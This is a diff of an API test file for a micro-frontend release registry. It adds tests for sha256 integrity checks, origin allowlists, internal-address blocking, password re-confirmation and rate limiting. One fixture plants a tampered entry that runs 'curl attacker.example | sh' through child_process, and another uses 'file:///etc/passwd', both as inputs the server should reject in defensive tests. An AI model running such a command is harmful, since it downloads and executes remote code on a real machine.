@@ -2,10 +2,12 @@ import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 import request from 'supertest';
 import { bodyOf, type MessageBody } from '../../../test-support/response-body';
-import { adminAuthHeader, testApp } from '../../../test-support/test-app';
+import { adminAuthHeader, adminAuthHeaderSignedInAgo, TEST_ADMIN, testApp } from '../../../test-support/test-app';
+import { CONFIRM_PASSWORD, WRONG_PASSWORD } from '../../auth/recent-sign-in';
 import { MANIFEST_MAX_BYTES } from '../release-manifest';
 import { NO_SITE_SERVER_SECRET, SHELL_DID_NOT_ANSWER, SHELL_REFUSED_SECRET } from '../release-checks';
 import type { ReleaseVersion as VersionSummary, RemoteStatus } from '@fns/contracts';
+import { integrityOf } from '@fns/server-kit';
 
 /** A static host with releases on it (what the manifest URL is fetched from), and a shell that answers release checks. */
 async function listen(handler: http.RequestListener) {
@@ -14,6 +16,11 @@ async function listen(handler: http.RequestListener) {
   return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
 }
 
+/** Each release's two entries, as its build would write them. */
+const BROWSER_ENTRY = 'remoteEntry.0123456789.js';
+const SERVER_ENTRY = 'server/remoteEntry.0123456789.js';
+const entryCode = (version: string, file: string) => `/* ${file} of ${version} */`;
+
 const manifest = (version: string, edit: Record<string, unknown> = {}) => ({
   name: 'mfe_blog',
   version,
@@ -21,8 +28,9 @@ const manifest = (version: string, edit: Record<string, unknown> = {}) => ({
   builtAt: '2026-11-26T12:00:00.000Z',
   exposes: ['./routes'],
   shared: { react: '^19.3.1' },
-  browser: { entry: 'remoteEntry.0123456789.js', boot: [], routes: { '/blog': [], '/blog/:slug': [] } },
-  server: { entry: 'server/remoteEntry.0123456789.js' },
+  browser: { entry: BROWSER_ENTRY, boot: [], routes: { '/blog': [], '/blog/:slug': [] } },
+  server: { entry: SERVER_ENTRY },
+  integrity: Object.fromEntries([BROWSER_ENTRY, SERVER_ENTRY].map((file) => [file, integrityOf(entryCode(version, file))])),
   ...edit,
 });
 
@@ -71,11 +79,21 @@ beforeEach(async () => {
   shellAnswer = [200, { rendered: ['/blog'] }];
 });
 
-/** Puts a release's manifest on the static host; returns its URL. */
-function publish(version: string, edit?: Record<string, unknown>): string {
-  files.set(`/releases/${version}/remote-manifest.json`, JSON.stringify(manifest(version, edit)));
-  return `${host.url}/releases/${version}/remote-manifest.json`;
+/** Puts a release (its manifest and entries) on the static host, in `folder`; returns its manifest's URL. */
+function publish(version: string, edit?: Record<string, unknown>, folder = `/releases/${version}`): string {
+  files.set(`${folder}/remote-manifest.json`, JSON.stringify(manifest(version, edit)));
+  for (const file of [BROWSER_ENTRY, SERVER_ENTRY]) files.set(`${folder}/${file}`, entryCode(version, file));
+  return `${host.url}${folder}/remote-manifest.json`;
 }
+
+/** What the registry records of a release published as is: the sha256 of its manifest and entries. */
+const integrityOfRelease = (version: string) => ({
+  manifest: integrityOf(JSON.stringify(manifest(version))),
+  browserEntry: integrityOf(entryCode(version, BROWSER_ENTRY)),
+  serverEntry: integrityOf(entryCode(version, SERVER_ENTRY)),
+});
+/** The registry's live entry of a release published as is. */
+const pinned = (version: string, url: string) => ({ manifestUrl: url, version, integrity: integrityOfRelease(version).manifest });
 
 const register = (manifestUrl: string, remote = 'mfe_blog') =>
   request(app).post(`/api/admin/remotes/${remote}/versions`).set('Authorization', auth).send({ manifestUrl });
@@ -121,6 +139,7 @@ describe('POST /api/admin/remotes/{remote}/versions', () => {
       exposes: ['./routes'],
       routes: ['/blog', '/blog/:slug'],
       shared: { react: '^19.3.1' },
+      integrity: integrityOfRelease('1.0.0-aaaa'),
       renders: 0,
       failures: 0,
     });
@@ -134,8 +153,7 @@ describe('POST /api/admin/remotes/{remote}/versions', () => {
     const url = publish('1.0.0-aaaa');
     expect((await register(url)).status).toBe(201);
     expect((await register(url)).status).toBe(200);
-    files.set('/elsewhere/remote-manifest.json', JSON.stringify(manifest('1.0.0-aaaa')));
-    const res = await register(`${host.url}/elsewhere/remote-manifest.json`);
+    const res = await register(publish('1.0.0-aaaa', {}, '/elsewhere'));
     expect(res.status).toBe(409);
     expect(bodyOf<MessageBody>(res).message).toBe(`mfe_blog 1.0.0-aaaa is already registered with another manifest (${url}).`);
   });
@@ -159,6 +177,52 @@ describe('POST /api/admin/remotes/{remote}/versions', () => {
     expect(bodyOf<MessageBody>(res).message).toBe(expected(url));
   });
 
+  it('refuses the same version whose manifest changed since it was registered (409): a version is one set of bytes', async () => {
+    const url = publish('1.0.0-aaaa');
+    expect((await register(url)).status).toBe(201);
+    publish('1.0.0-aaaa', { commit: 'fedcba987654' });
+    const res = await register(url);
+    expect(res.status).toBe(409);
+    expect(bodyOf<MessageBody>(res).message).toBe("mfe_blog 1.0.0-aaaa's manifest has changed since it was registered: a version's files never change.");
+  });
+
+  it('refuses a release whose entry is not the file its manifest names (400)', async () => {
+    const url = publish('1.0.0-aaaa');
+    files.set(`/releases/1.0.0-aaaa/${SERVER_ENTRY}`, 'require("child_process").exec("curl attacker.example | sh")');
+    const res = await register(url);
+    expect(res.status).toBe(400);
+    expect(bodyOf<MessageBody>(res).message).toBe(`${host.url}/releases/1.0.0-aaaa/${SERVER_ENTRY} is not the file ${url} names: its sha256 differs.`);
+  });
+
+  it('refuses a manifest from an origin RELEASE_ORIGINS does not list, before fetching it (400)', async () => {
+    const url = publish('1.0.0-aaaa');
+    const strict = testApp({ ...settings(), RELEASE_ORIGINS: 'https://cdn.example' });
+    const res = await request(strict.app)
+      .post('/api/admin/remotes/mfe_blog/versions')
+      .set('Authorization', await adminAuthHeader(strict.config))
+      .send({ manifestUrl: url });
+    expect(res.status).toBe(400);
+    expect(bodyOf<MessageBody>(res).message).toBe(
+      `The manifest cannot be registered: ${host.url} is not one of the release origins (RELEASE_ORIGINS).`,
+    );
+  });
+
+  it('refuses a listed origin whose host is an internal address, unless RELEASE_PRIVATE_ADDRESSES allows it', async () => {
+    const internal = `http://127.0.0.2:${new URL(host.url).port}`;
+    const url = `${internal}/releases/1.0.0-aaaa/remote-manifest.json`;
+    for (const [allowed, expected] of [
+      ['false', `Could not fetch the manifest at ${url}: 127.0.0.2 resolves to 127.0.0.2, an internal address (set RELEASE_PRIVATE_ADDRESSES=true to allow one).`],
+      ['true', expect.not.stringContaining('internal address') as unknown],
+    ] as const) {
+      const api = testApp({ ...settings(), RELEASE_ORIGINS: internal, RELEASE_PRIVATE_ADDRESSES: allowed });
+      const res = await request(api.app)
+        .post('/api/admin/remotes/mfe_blog/versions')
+        .set('Authorization', await adminAuthHeader(api.config))
+        .send({ manifestUrl: url });
+      expect(bodyOf<MessageBody>(res).message).toEqual(expected);
+    }
+  });
+
   it('refuses a body that is not JSON, and a manifest larger than 256 KB', async () => {
     files.set('/text', 'not json');
     expect(bodyOf<MessageBody>((await register(`${host.url}/text`))).message).toBe(`${host.url}/text is not a remote manifest: it is not JSON.`);
@@ -172,7 +236,7 @@ describe('POST /api/admin/remotes/{remote}/versions', () => {
     [{}, 'The manifest URL (manifestUrl) is required.'],
     [{ manifestUrl: 'file:///etc/passwd' }, 'The manifest URL must be an http or https URL.'],
     [{ manifestUrl: 'not a url' }, 'The manifest URL must be an http or https URL.'],
-    [{ manifestUrl: 'http://x/', other: 1 }, 'Only "manifestUrl" can be given.'],
+    [{ manifestUrl: 'http://x/', other: 1 }, 'Only "manifestUrl" and "password" can be given.'],
   ])('refuses the body %j (400)', async (body, expected) => {
     const res = await request(app).post('/api/admin/remotes/mfe_blog/versions').set('Authorization', auth).send(body);
     expect(res.status).toBe(400);
@@ -186,6 +250,47 @@ describe('POST /api/admin/remotes/{remote}/versions', () => {
   });
 });
 
+describe('register and promote ask an admin who signed in more than 5 minutes ago for the password again', () => {
+  let oldSession: string;
+  beforeEach(async () => {
+    oldSession = await adminAuthHeaderSignedInAgo(testApp(settings()).config, 6 * 60_000);
+  });
+  const asOldSession = (path: string, body: Record<string, unknown>) =>
+    request(app).post(`/api/admin/remotes/mfe_blog/${path}`).set('Authorization', oldSession).send(body);
+
+  it('refuses without it (403) and with a wrong one (400), changing nothing', async () => {
+    const url = publish('1.0.0-aaaa');
+    const unconfirmed = await asOldSession('versions', { manifestUrl: url });
+    expect({ status: unconfirmed.status, body: unconfirmed.body as unknown }).toEqual({ status: 403, body: { message: CONFIRM_PASSWORD } });
+    const wrong = await asOldSession('versions', { manifestUrl: url, password: 'not my password' });
+    expect({ status: wrong.status, body: wrong.body as unknown }).toEqual({ status: 400, body: { message: WRONG_PASSWORD } });
+    expect((await blogStatus()).versions).toEqual([]);
+
+    expect((await register(url)).status).toBe(201);
+    expect((await asOldSession('promote', { version: '1.0.0-aaaa' })).status).toBe(403);
+    expect((await asOldSession('promote', { version: '1.0.0-aaaa', password: 'not my password' })).status).toBe(400);
+    expect(checks).toEqual([]);
+  });
+
+  it('goes ahead with the right one', async () => {
+    const url = publish('1.0.0-aaaa');
+    expect((await asOldSession('versions', { manifestUrl: url, password: TEST_ADMIN.password })).status).toBe(201);
+    const promoted = await asOldSession('promote', { version: '1.0.0-aaaa', password: TEST_ADMIN.password });
+    expect(promoted.status).toBe(200);
+    expect(bodyOf<RemoteStatus>(promoted).live.version).toBe('1.0.0-aaaa');
+  });
+
+  it('counts wrong passwords as failed sign-ins: past the limit, even the right one waits', async () => {
+    const url = publish('1.0.0-aaaa');
+    for (let attempt = 0; attempt < 10; attempt += 1) {
+      expect((await asOldSession('versions', { manifestUrl: url, password: `guess ${attempt}` })).status).toBe(400);
+    }
+    const blocked = await asOldSession('versions', { manifestUrl: url, password: TEST_ADMIN.password });
+    expect(blocked.status).toBe(429);
+    expect(bodyOf<MessageBody>(blocked).message).toMatch(/^Too many wrong passwords\. Please try again in /);
+  });
+});
+
 describe('promote and roll back', () => {
   it('promotes a version the shell checked (the release sent, as a site server), and every shell reads it as live', async () => {
     const url = publish('1.0.0-aaaa');
@@ -193,12 +298,19 @@ describe('promote and roll back', () => {
     const res = await promote('1.0.0-aaaa');
     expect(res.status).toBe(200);
     expect(checks).toEqual([
-      { authorization: `Bearer ${SITE_SERVER_SECRET}`, body: { remote: 'mfe_blog', version: '1.0.0-aaaa', manifestUrl: url } },
+      { authorization: `Bearer ${SITE_SERVER_SECRET}`, body: { remote: 'mfe_blog', ...pinned('1.0.0-aaaa', url) } },
     ]);
     expect(bodyOf<RemoteStatus>(res).live).toEqual({ version: '1.0.0-aaaa', manifestUrl: url });
     expect(bodyOf<RemoteStatus>(res).canRollBack).toBe(true);
     expect(bodyOf<RemoteStatus>(res).history[0]).toEqual(expect.objectContaining({ action: 'promote', version: '1.0.0-aaaa', from: null, by: 'admin' }));
-    expect(await live()).toEqual({ remotes: { mfe_blog: url }, canaries: {} });
+    expect(await live()).toEqual({ remotes: { mfe_blog: pinned('1.0.0-aaaa', url) }, canaries: {} });
+  });
+
+  it('leaves out of the live registry a release whose origin RELEASE_ORIGINS no longer lists', async () => {
+    await register(publish('1.0.0-aaaa'));
+    await promote('1.0.0-aaaa');
+    const strict = testApp({ ...settings(), RELEASE_ORIGINS: 'https://cdn.example' });
+    expect(bodyOf(await request(strict.app).get('/api/remotes/live'))).toEqual({ remotes: {}, canaries: {} });
   });
 
   it('refuses a version that is not registered (404) or already live (409)', async () => {
@@ -256,7 +368,7 @@ describe('promote and roll back', () => {
     expect(back.status).toBe(200);
     expect(bodyOf<RemoteStatus>(back).live).toEqual({ version: '1.0.0-aaaa', manifestUrl: first });
     expect(bodyOf<RemoteStatus>(back).history[0]).toEqual(expect.objectContaining({ action: 'rollback', version: '1.0.0-aaaa', from: '1.0.1-bbbb' }));
-    expect(await live()).toEqual({ remotes: { mfe_blog: first }, canaries: {} });
+    expect(await live()).toEqual({ remotes: { mfe_blog: pinned('1.0.0-aaaa', first) }, canaries: {} });
 
     expect(bodyOf<RemoteStatus>((await rollback())).live).toEqual({ version: null, manifestUrl: null });
     expect(await live()).toEqual({ remotes: {}, canaries: {} });
@@ -304,7 +416,9 @@ describe('GET /api/admin/remotes/{remote}/versions/{version}', () => {
 describe('canary', () => {
   const canary = (version: string, canaryPercent: unknown) =>
     request(app).post('/api/admin/remotes/mfe_blog/promote').set('Authorization', auth).send({ version, canaryPercent });
-  const report = (reports: unknown[], headers: Record<string, string> = {}) => request(app).post('/api/remotes/reports').set(headers).send({ reports });
+  /** What a shell server sends (as a site server: render-reports.api.test.ts has who may). */
+  const report = (reports: unknown[]) =>
+    request(app).post('/api/remotes/reports').set('Authorization', `Bearer ${SITE_SERVER_SECRET}`).send({ reports });
   const counts = (version: string, renders: number, failures: number) => ({ remote: 'mfe_blog', version, renders, failures });
 
   beforeEach(async () => {
@@ -322,8 +436,8 @@ describe('canary', () => {
     expect(status.history[0]).toEqual(expect.objectContaining({ action: 'canary', version: '1.1.0-canary', reason: '25% of visitors' }));
     expect(checks).toHaveLength(2);
     expect(await live()).toEqual({
-      remotes: { mfe_blog: `${host.url}/releases/1.0.0-stable/remote-manifest.json` },
-      canaries: { mfe_blog: { manifestUrl: `${host.url}/releases/1.1.0-canary/remote-manifest.json`, percent: 25 } },
+      remotes: { mfe_blog: pinned('1.0.0-stable', `${host.url}/releases/1.0.0-stable/remote-manifest.json`) },
+      canaries: { mfe_blog: { ...pinned('1.1.0-canary', `${host.url}/releases/1.1.0-canary/remote-manifest.json`), percent: 25 } },
     });
 
     const ended = bodyOf<RemoteStatus>(await rollback());
@@ -343,10 +457,7 @@ describe('canary', () => {
     expect(bodyOf<MessageBody>(res).message).toBe('The canary share must be a whole number of percent from 1 to 99.');
   });
 
-  it("takes reports from the site's own servers only", async () => {
-    const forwarded = await report([counts('1.0.0-stable', 1, 0)], { 'X-Forwarded-For': '203.0.113.9' });
-    expect(forwarded.status).toBe(403);
-    expect(bodyOf<MessageBody>(forwarded).message).toBe("Only the site's own servers may call this.");
+  it("adds a shell server's counts to each version's", async () => {
     expect((await report([counts('1.0.0-stable', 3, 1)])).status).toBe(204);
     const [stable] = bodyOf<RemoteStatus>(await rollback()).versions.filter((version) => version.version === '1.0.0-stable');
     expect({ renders: stable!.renders, failures: stable!.failures }).toEqual({ renders: 3, failures: 1 });
@@ -370,13 +481,5 @@ describe('canary', () => {
     await canary('1.1.0-canary', 50);
     await report([counts('1.1.0-canary', 30, 1)]);
     expect((await blogStatus()).canary).toEqual(expect.objectContaining({ version: '1.1.0-canary', renders: 30, failures: 1 }));
-  });
-
-  it.each([
-    [{ reports: [{ remote: 'mfe_blog', version: '1.0.0', renders: -1, failures: 0 }] }],
-    [{ reports: 'all good' }],
-    [{}],
-  ])('refuses the report %j (400)', async (body) => {
-    expect((await request(app).post('/api/remotes/reports').send(body)).status).toBe(400);
   });
 });
